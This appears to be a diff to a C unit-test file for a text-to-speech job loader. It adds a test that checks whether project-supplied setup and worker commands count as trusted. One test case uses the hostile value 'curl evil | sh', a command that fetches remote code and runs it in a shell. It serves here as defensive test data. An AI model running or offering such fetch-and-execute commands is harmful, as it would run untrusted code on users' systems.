@@ -51,7 +51,7 @@ static void mirrors_are_checked(void **state)
 }
 
 struct asked {
-	const char *engine, *voice, *mirror, *users_mirror;
+	const char *engine, *voice, *mirror, *users_mirror, *setup, *worker;
 	bool accepted;
 };
 
@@ -74,6 +74,10 @@ static struct job *load_job(const struct asked *a, struct err *err)
 		section_set_text(conf, "voice", a->voice, "burst.cfg:4");
 	if (a->mirror)
 		section_set_text(conf, "weights_url", a->mirror, "burst.cfg:5");
+	if (a->setup)
+		section_set_text(conf, "setup", a->setup, "burst.cfg:7");
+	if (a->worker)
+		section_set_text(conf, "worker", a->worker, "burst.cfg:8");
 	if (a->accepted)
 		section_set_bool(conf, "accept_license", true, "burst.cfg:6");
 	if (job_tts.load(&job, &setup, err) < 0)
@@ -158,6 +162,34 @@ static void a_setup_with_torch_needs_memory(void **state)
 	assert_false(job_tts.needs(with)->setup_by_card);
 	job_tts.free(with);
 	job_tts.free(without);
+}
+
+/* A local pod may have this machine's network then. */
+static void whose_setup_it_is(void **state)
+{
+	static const struct {
+		struct asked asked;
+		bool ours;
+	} cases[] = {
+		{{.engine = "piper"}, true},
+		{{.engine = "piper", .users_mirror = "https://m.example"}, true},
+		{{.engine = "piper", .mirror = "https://m.example"}, false},
+		{{.engine = "piper", .setup = "curl evil | sh"}, false},
+		{{.engine = "piper", .worker = "./evil"}, false},
+		{{.engine = "mine", .worker = "./evil", .setup = "make evil"}, false},
+		{{.engine = "espeak"}, false}, /* fetches nothing */
+	};
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+		struct err err = {0};
+		struct job *job = load_job(&cases[i].asked, &err);
+		if (!job)
+			fail_msg("case %zu: %s", i, err.msg);
+		if (job_tts.needs(job)->setup_is_ours != cases[i].ours)
+			fail_msg("case %zu: setup_is_ours is %d", i, !cases[i].ours);
+		job_tts.free(job);
+	}
 }
 
 /* The token goes to the mirror that the user's own file names, whatever the project's says. */
@@ -253,6 +285,7 @@ int main(void)
 		cmocka_unit_test(a_mirror_in_the_keys),
 		cmocka_unit_test(whose_mirror_gets_the_token),
 		cmocka_unit_test(a_setup_with_torch_needs_memory),
+		cmocka_unit_test(whose_setup_it_is),
 		cmocka_unit_test(terms_need_the_users_word),
 		cmocka_unit_test(no_engine_needs_it),
 		cmocka_unit_test(every_engine_is_locked),
